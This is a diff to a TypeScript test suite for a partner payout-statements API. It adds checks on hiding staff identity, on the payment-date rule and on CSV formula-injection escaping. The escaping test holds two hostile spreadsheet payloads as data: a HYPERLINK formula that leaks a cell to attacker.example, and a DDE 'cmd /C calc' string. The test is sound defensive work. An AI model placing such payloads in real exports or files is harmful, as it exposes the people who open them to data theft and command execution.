@@ -38,7 +38,7 @@ interface StatementBody {
   issuedBy: string;
   disputes: Array<{ lineId: string; status: string; outcome: string | null; adjustment: string | null; adjustmentLine: { statementId: string; lineId: string } | null }>;
   adjustedBy: Array<{ statementId: string; lineId: string; adjustsLineId: string; reason: string; amount: string }>;
-  approval: { approvedBy: string } | null;
+  approval: { approvedBy?: string; approvedAt: string } | null;
   payment: { paymentReference: string; paidAt: string; amount: string } | null;
 }
 
@@ -124,11 +124,12 @@ describe('payout statements over HTTP', () => {
   }
 
   /** A refused request: the code, and nothing appended to the log. */
-  async function refused(send: () => Promise<{ status: number; body: { error?: string } }>, status: number, code: string): Promise<void> {
+  async function refused(send: () => Promise<{ status: number; body: { error?: string } }>, status: number, code: string): Promise<{ details?: unknown }> {
     const before = await head();
     const response = await send();
     expect({ status: response.status, error: response.body.error }).toEqual({ status, error: code });
     expect(await head()).toBe(before);
+    return response.body as { details?: unknown };
   }
 
   beforeEach(async () => {
@@ -212,11 +213,15 @@ describe('payout statements over HTTP', () => {
     expect(paid).toMatchObject({
       status: 'paid',
       total: '1150.00',
-      approval: { approvedBy: 'frank' },
+      approval: { approvedAt: '2026-04-08' },
       payment: { paymentReference: 'SEPA-2026-04-0915', paidAt: '2026-04-10', amount: '1150.00' },
       disputes: [{ lineId: d2Line, status: 'resolved', outcome: 'adjusted', adjustment: '20.00', adjustmentLine: null }],
     });
     expect(paid.lines).toEqual(q1.lines);
+    // The partner reads no staff identity; finance does.
+    expect(paid).not.toHaveProperty('issuedBy');
+    expect(paid.approval).not.toHaveProperty('approvedBy');
+    expect(await statement(q1Id)).toMatchObject({ issuedBy: 'fiona', approval: { approvedBy: 'frank' } });
     // Paying the statement paid the claim on it, on the payment's date.
     const paidFund = await fund('acme');
     expect(paidFund.figures).toMatchObject({ approved: '450.00', paid: '450.00' });
@@ -281,6 +286,39 @@ describe('payout statements over HTTP', () => {
     await ledger.app.get(Projector).rebuild();
     expect((await ledger.http.get(`/statements/${q1Id}`).set(fiona()).expect(200)).text).toBe(before);
     expect((await ledger.http.get('/statements?partnerId=acme&format=csv').set(fiona()).expect(200)).text).toBe(csvBefore);
+  });
+
+  it('escapes CSV cells a spreadsheet would run as formulas (a dispute reason, claim evidence), keeping negative amounts numeric', async () => {
+    const hyperlink = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")';
+    on('2026-01-02');
+    await publish(ruleSet({ mdf: { accrualRates: { registered: '0.10', silver: '0.10', gold: '0.10' } } }));
+    await enroll('acme');
+    await wonDeal('acme', 'd1', '2026-01-10', '10000.00');
+    await settle();
+    on('2026-01-25');
+    track(await ledger.http.post('/campaigns').set(partnerUser('acme')).send(campaignBody('c1', 'acme', [['m1', '500.00']])).expect(201));
+    track(await ledger.http.post('/campaigns/c1/approve').set(manager()).expect(200));
+    track(await ledger.http.post('/campaigns/c1/milestones/m1/complete').set(manager()).send({ evidence: 'Webinar held' }).expect(200));
+    const claim = { claimId: 'cl1', amount: '400.00', evidence: '@SUM(1+1)*cmd|" /C calc"!A0' };
+    track(await ledger.http.post('/campaigns/c1/claims').set(partnerUser('acme')).send(claim).expect(201));
+    track(await ledger.http.post('/campaigns/c1/claims/cl1/approve').set(manager()).expect(200));
+    await close('2026-Q1', '2026-04-02');
+    on('2026-04-03');
+    const q1Id = await issue('acme', '2026-Q1');
+    const d1Line = (await statement(q1Id)).lines.find((line) => line.commission?.dealId === 'd1')!.lineId;
+    track(await ledger.http.post(`/statements/${q1Id}/lines/${d1Line}/dispute`).set(partnerUser('acme')).send({ reason: hyperlink }).expect(200));
+    track(await ledger.http.post(`/statements/${q1Id}/lines/${d1Line}/resolve`).set(fiona()).send({ outcome: 'adjusted', adjustment: '-50.00' }).expect(200));
+    await close('2026-Q2', '2026-07-02');
+    on('2026-07-03');
+    const q2Id = await issue('acme', '2026-Q2');
+
+    const csv = await ledger.http.get(`/statements?partnerId=acme&format=csv&after=${last}`).set(fiona()).expect(200);
+    const rows = parseCsv(csv.text);
+    expect(rows.find((row) => row['kind'] === 'mdf_claim')).toMatchObject({ statement_id: q1Id, claim_evidence: `'${claim.evidence}`, amount: '400.00' });
+    expect(rows.find((row) => row['kind'] === 'adjustment')).toMatchObject({ statement_id: q2Id, dispute_reason: `'${hyperlink}`, amount: '-50.00' });
+    expect(csv.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    // The JSON view is data, not a spreadsheet: it keeps the text as the partner wrote it.
+    expect((await ledger.http.get(`/statements/${q1Id}`).set(fiona()).expect(200)).body.disputes[0].reason).toBe(hyperlink);
   });
 
   it('a rule set that reaches back after a statement was issued: the next statement adjusts each issued line, linked to it and to the new computation', async () => {
@@ -355,6 +393,9 @@ describe('payout statements over HTTP', () => {
     track(await ledger.http.post(`/statements/${id}/approve`).set(frank()).expect(200));
     await refused(() => ledger.http.post(`/statements/${id}/approve`).set(ledger.auth('finance', 'gina')), 409, 'STATEMENT_ALREADY_APPROVED');
     await refused(() => ledger.http.post(`/statements/${id}/pay`).set(fiona()).send({ paymentReference: 'SEPA-9', paidAt: '2026-04-05' }), 400, 'DATE_IN_FUTURE');
+    // Approved today (2026-04-03): a payment cannot be dated before that.
+    const early = await refused(() => ledger.http.post(`/statements/${id}/pay`).set(fiona()).send({ paymentReference: 'SEPA-9', paidAt: '1970-01-01' }), 422, 'STATEMENT_PAID_BEFORE_APPROVAL');
+    expect(early.details).toEqual({ field: 'paidAt', earliest: '2026-04-03' });
     const body = { paymentReference: 'SEPA-2026-04-0003' };
     const first = track(await ledger.http.post(`/statements/${id}/pay`).set(fiona()).set('Idempotency-Key', 'pay-acme-q1').send(body).expect(200));
     const after = await head();
